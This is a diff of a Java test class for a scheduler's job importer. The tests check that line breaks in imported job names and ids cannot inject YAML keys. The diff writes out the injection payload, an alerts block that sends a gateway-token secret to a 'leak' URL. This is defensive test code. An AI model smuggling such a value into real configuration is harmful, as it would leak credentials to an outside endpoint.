@@ -8,12 +8,11 @@ import ai.clawfactory.core.definition.Expressions;
 import ai.clawfactory.core.definition.StepDefinition;
 import ai.clawfactory.core.definition.WorkflowDefinition;
 import ai.clawfactory.schedules.SchedulesCommand;
+import ai.clawfactory.schedules.importer.OpenClawImportTest.Run;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ArrayNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import java.io.IOException;
-import java.io.PrintWriter;
-import java.io.StringWriter;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
@@ -38,19 +37,18 @@ class ImportedDataStaysDataTest {
     /** Every line break YAML knows: each could end a comment line and start a key. */
     private static final String[] BREAKS = {"\n", "\r", "\u0085", "\u2028", "\u2029"};
 
-    /** What an attacker would add: an alerts block that sends the gateway token out. */
-    private static final String ALERTS =
-            "alerts: {onFailure: {http: {url: \"http://127.0.0.1:9/leak/" + "{{secret.gateway-token}}\"}}}";
+    /**
+     * What an attacker would append to a comment line: a line break, an alerts block that sends the
+     * gateway token out, and a line break and '#' that comment out the rest of the line.
+     */
+    private static String injection(int lineBreak) {
+        String br = BREAKS[lineBreak];
+        return br + "alerts: {onFailure: {http: {url: \"http://127.0.0.1:9/leak/{{secret.gateway-token}}\"}}}" + br
+                + "#";
+    }
 
     @TempDir
     Path tmp;
-
-    record Run(int exitCode, String out, String err) {
-        @Override
-        public String toString() {
-            return "exit " + exitCode + "\n--- stdout\n" + out + "--- stderr\n" + err;
-        }
-    }
 
     private static ObjectNode job(String id, String name) {
         ObjectNode j = JSON.createObjectNode();
@@ -79,20 +77,11 @@ class ImportedDataStaysDataTest {
         OpenClawImportCommand cmd = new OpenClawImportCommand();
         cmd.now = OpenClawImportTest.NOW;
         cmd.openclawBin = "/nonexistent/openclaw";
-        return execute(new CommandLine(cmd), args);
+        return OpenClawImportTest.execute(new CommandLine(cmd), args);
     }
 
     private static Run validate(Path dir) {
-        return execute(SchedulesCommand.commandLine(), "validate", dir.toString());
-    }
-
-    private static Run execute(CommandLine cl, String... args) {
-        StringWriter out = new StringWriter();
-        StringWriter err = new StringWriter();
-        cl.setOut(new PrintWriter(out, true));
-        cl.setErr(new PrintWriter(err, true));
-        int code = cl.execute(args);
-        return new Run(code, out.toString(), err.toString());
+        return OpenClawImportTest.execute(SchedulesCommand.commandLine(), "validate", dir.toString());
     }
 
     private static List<Path> yamlFiles(Path dir) throws IOException {
@@ -235,8 +224,7 @@ class ImportedDataStaysDataTest {
     @ParameterizedTest
     @ValueSource(ints = {0, 1, 2, 3, 4})
     void aLineBreakInANameNeverAddsAKey(int which) throws IOException {
-        String br = BREAKS[which];
-        String name = "evil" + br + ALERTS + br + "#";
+        String name = "evil" + injection(which);
         Path out = tmp.resolve("d");
         ObjectNode job = job("c1b2c3d4-0000-4000-8000-000000000005", name);
         Run r = importJobs(out, job);
@@ -253,10 +241,8 @@ class ImportedDataStaysDataTest {
     @ParameterizedTest
     @ValueSource(ints = {0, 1, 2, 3, 4})
     void aLineBreakInAnIdRefusesThatJobAndTheOthersAreWritten(int which) throws IOException {
-        String br = BREAKS[which];
-        String id = "d1b2c3d4" + br + ALERTS + br + "#";
         Path out = tmp.resolve("d");
-        Run r = importJobs(out, job(id, "odd-id"), job("good-2", "good"));
+        Run r = importJobs(out, job("d1b2c3d4" + injection(which), "odd-id"), job("good-2", "good"));
         assertEquals(2, r.exitCode(), r::toString);
         assertEquals(List.of(out.resolve("good.yaml")), yamlFiles(out), r::toString);
         assertNoInjectedKey(out);
